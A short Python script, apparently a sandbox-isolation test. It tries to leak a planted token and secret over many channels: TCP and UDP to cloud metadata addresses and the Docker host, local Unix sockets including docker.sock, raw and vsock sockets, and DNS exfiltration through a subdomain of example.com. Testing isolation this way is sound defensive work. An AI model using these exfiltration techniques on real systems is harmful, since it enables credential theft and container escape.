"""Calls for help."""
import os
import socket

from planted import HOST, secret, token, write_scores

write_scores()
words = token().encode() + secret()
own = [(address, port) for address in HOST['addresses'] for port in (HOST['tcpPort'], HOST['udpPort'])]
known = [('169.254.169.254', 80), ('100.100.100.200', 80), ('192.0.2.1', 443), ('8.8.8.8', 53), ('172.17.0.1', 2375), ('fd00:ec2::254', 80)]
for address, port in own + known:
    family = socket.AF_INET6 if ':' in address else socket.AF_INET
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family, kind) as call:
                call.settimeout(0.1)
                call.connect((address, port))
                call.sendall(words)
        except OSError:
            pass
for path in ('\0' + HOST['abstractSocket'], HOST['socketFile'], '/run/systemd/journal/socket', '/dev/log', '/run/dbus/system_bus_socket', '/var/run/docker.sock', '/var/run/nscd/socket'):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as call:
                call.settimeout(0.1)
                call.connect(path)
                call.sendall(words)
        except OSError:
            pass
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_NETLINK, socket.SOCK_RAW, 0), (getattr(socket, 'AF_VSOCK', 40), socket.SOCK_STREAM, 0)):
    try:
        with socket.socket(family, kind, protocol) as call:
            call.settimeout(0.1)
            call.connect((2, 1234) if family == 40 else (HOST['addresses'][0], 0))
            call.send(words)
    except (OSError, TypeError, ValueError):
        pass
if os.fork() == 0:
    os.setsid()
    socket.setdefaulttimeout(0.2)
    try:
        socket.getaddrinfo(secret().hex() + '.example.com', 80)
    except OSError:
        pass
    os._exit(0)
